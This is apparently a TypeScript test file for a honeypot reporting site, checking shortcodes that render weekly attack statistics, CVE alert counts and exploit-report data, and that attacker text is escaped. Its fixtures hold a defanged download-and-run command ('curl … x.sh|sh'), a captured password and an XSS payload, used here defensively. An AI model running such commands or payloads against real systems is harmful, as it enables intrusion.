import { test } from "uvu";
import * as assert from "uvu/assert";
import { proseShortcodes } from "../../scripts/render/prose.ts";
import { exploitMatch, exploitReport, history, makeSummary, seedMirror, seedSite } from "../fixtures/history/factory.ts";
import { contextOf } from "./render.ts";

const { w24, w25, w26 } = seedMirror();
const ctx = contextOf(seedSite(), history(w24, w25, w26));
const run = (name: string, ...args: unknown[]) => proseShortcodes[name]!(ctx, ...args) as string;
const W = "2019-W26";

test("numbers: exact, rounded, rounded down, share", () => {
  assert.is(run("num", W, "totals.events"), "109,876");
  assert.is(run("num", W, "honeypot:cowrie"), "104,512");
  assert.is(run("approx", W, "totals.events", "ja"), "11万");
  assert.is(run("approx", W, "totals.events", "en"), "110,000");
  assert.is(run("approx", W, "events"), "11万", "the site's language when no lang is given");
  assert.is(run("atleast", W, "honeypot:cowrie", "ja"), "10万");
  assert.is(run("atleast", W, "honeypot:cowrie", "en"), "100,000");
  assert.is(run("share", W, "honeypot:cowrie"), "95%");
  assert.is(run("portcount", W, 3389), "334");
  assert.is(run("portcount", W, "7001"), "8");
  assert.is(run("portcount", W, 1), "0", "a port nobody hit");
});

test("baselines: average of the weeks before, their count and span", () => {
  assert.is(run("baseline", W, 3389, "ja"), "420");
  assert.is(run("baseline", W, "honeypot:cowrie", "ja"), "9.1万");
  assert.is(run("baselineweeks", W), "2");
  assert.is(run("baselinerange", W, "ja"), "6/10-6/23");
  assert.is(run("baselinerange", W, "en"), "Jun 10–23");
  assert.is(run("historyweeks", W), "2");
  assert.is(run("baseline", "2019-W24", 3389, "ja"), "–", "a first week has no baseline");
  assert.is(run("baselinerange", "2019-W24", "ja"), "–");
});

test("countries, peak, week range and downtime", () => {
  assert.is(run("topcountry", W, 3389, "ja"), "中国");
  assert.is(run("prevtopcountry", W, 3389, "ja"), "インドネシア");
  assert.is(run("prevtopcountry", W, 3389, "en"), "Indonesia");
  assert.is(run("topcountry", W, "all", "en"), "China");
  assert.is(run("topcountry", W, 1, "en"), "–");
  assert.is(run("peakhour", W, "ja"), "6/29の9時");
  assert.is(run("peakhour", W, "en"), "9:00 on Jun 29");
  assert.is(run("peakcountries", W, 2, "ja"), "オランダとロシア");
  assert.is(run("peakcountries", W, 3, "en"), "the Netherlands, Russia and China");
  assert.is(run("peakcountries", W, "ja"), "オランダとロシア", "2 by default");
  assert.is(run("weekrange", W, "ja"), "6/24-6/30");
  assert.is(run("downtime", W, "honeytrap", "ja"), "6/24の0時から30時間");
  assert.is(run("downtime", W, "honeytrap", "en"), "30 hours from 0:00 on Jun 24");
  assert.is(run("downtime", W, "cowrie", "en"), "–");
  assert.is(run("country", W, "ZZ", "ja"), "不明");
  assert.is(run("geoip", W, "ja"), "DB-IP Lite(2019-06-01版)");
});

test("alerts, new-this-week counts and lists", () => {
  assert.is(run("alerts", W, "CVE-2019-2725"), "3");
  assert.is(run("alerts", W, "cve_2017_0144"), "55");
  assert.is(run("newcount", W, "commands"), "1");
  assert.is(run("newcount", W, "ports"), "0");
  assert.is(run("newlist", W, "ports", "ja"), "", "nothing new, no list");
  const list = run("newlist", W, "commands", "ja");
  assert.is(list, '<ul class="hw-new hw-new-commands"><li><code class="untrusted">curl hxxp://203[.]0[.]113[.]9/x.sh|sh &lt;script&gt;&#123;% raw %&#125;</code> <span class="hw-count">(7件)</span></li></ul>');
  assert.match(run("newlist", W, "credentials", "en"), '<code class="untrusted">system</code> / <code class="untrusted">Passw0rd!</code>');
});

test("attacker text in a list is made visible, one line, and shortened", () => {
  const evil = makeSummary("2019-W26", { commands: { ["echo x\n\n<img src=x onerror=alert(1)>\u202e" + "A".repeat(200)]: 3 } });
  const c2 = contextOf(seedSite(), history(makeSummary("2019-W25"), evil));
  const list = proseShortcodes.newlist!(c2, W, "commands", "en") as string;
  assert.not.match(list, "\n");
  assert.not.match(list, "<img");
  assert.match(list, "echo x\\n\\n&lt;img");
  assert.match(list, "\\u202e");
  assert.match(list, "…</code>");
});

test("exploit report: counts and dates as of the week's end, a dash without a readable report", () => {
  assert.is(run("exploitcount", W, "CVE-2019-2725"), "–");
  const report = exploitReport("2019-06-30", [
    {
      id: "CVE-2019-2725",
      keywords: ["WebLogic"],
      exploitDb: [exploitMatch(46780, "Oracle WebLogic 10.3.6.0.0 / 12.1.3.0.0 - Remote Code Execution", "2019-05-01")],
      exploitDbOmitted: 2,
      exploitDbEarliest: "2019-04-29",
      keywordMatches: [exploitMatch(46780, "Oracle WebLogic …", "2019-05-01")],
      kev: { dateAdded: "2021-11-03", vendorProject: "Oracle", product: "WebLogic Server", name: "x", ransomware: "known" },
    },
  ]);
  const c2 = contextOf(seedSite(), history(w24, w25, { ...w26, exploits: report }));
  assert.is(proseShortcodes.exploitcount!(c2, W, "CVE-2019-2725"), "3");
  assert.is(proseShortcodes.exploitkeywords!(c2, W, "CVE-2019-2725"), "1");
  assert.is(proseShortcodes.exploitsince!(c2, W, "CVE-2019-2725", "ja"), "2019/4/29");
  assert.is(proseShortcodes.kevsince!(c2, W, "CVE-2019-2725", "ja"), "2021/11/3");
  assert.is(proseShortcodes.kevsince!(c2, W, "CVE-2019-2725", "en"), "Nov 3, 2021");
  assert.is(proseShortcodes.exploitcount!(c2, W, "CVE-2017-0144"), "–", "not asked about");
  const unread = exploitReport("2019-06-30", [{ id: "CVE-2019-2725" }], {
    exploitDb: { status: "not-configured", path: null, message: "no file", searched: [] },
  });
  const c3 = contextOf(seedSite(), history({ ...w26, exploits: unread }));
  assert.is(proseShortcodes.exploitcount!(c3, W, "CVE-2019-2725"), "–");
});

test("output is escaped for HTML and inert in Markdown", () => {
  const odd = makeSummary("2019-W26", { geoip: { name: "My *GeoIP* <db> & [x]", built: null } });
  const c2 = contextOf(seedSite(), history(odd));
  assert.is(proseShortcodes.geoip!(c2, W, "en"), "My &#42;GeoIP&#42; &lt;db&gt; &amp; &#91;x&#93;");
});

test("wrong arguments and missing weeks throw, naming the call", () => {
  assert.throws(() => run("num", "2019-W30", "totals.events"), /num: no stored summary for week 2019-W30/);
  assert.throws(() => run("num", undefined, "totals.events"), /first argument must be the week id/);
  assert.throws(() => run("num", W, "totals.nope"), /has no "totals.nope"/);
  assert.throws(() => run("num", W, "__proto__.x"), /has no/);
  assert.throws(() => run("num", W, "week.id"), /is not a number/);
  assert.throws(() => run("baseline", W, "everything"), /baseline: not a subject/);
  assert.throws(() => run("topcountry", W, "port:x"), /expected "all" or a port/);
  assert.throws(() => run("newlist", W, "secrets"), /not a category/);
  assert.throws(() => run("downtime", W, "<b>"), /not a honeypot name/);
  assert.throws(() => run("alerts", W, "CVE-nope"), /not a CVE id/);
  assert.throws(() => run("peakcountries", W, 0), /count must be/);
});

test("a re-aggregated week shows its new numbers (nothing is cached across calls)", () => {
  const weeks = history(w24, w25, w26);
  const live = { site: seedSite(), weeks: () => weeks };
  assert.is(proseShortcodes.portcount!(live, W, 3389), "334");
  const changed = structuredClone(w26);
  changed.ports.find((p) => p.port === 3389)!.connections = 512;
  weeks.set(W, changed);
  assert.is(proseShortcodes.portcount!(live, W, 3389), "512");
});

test.run();
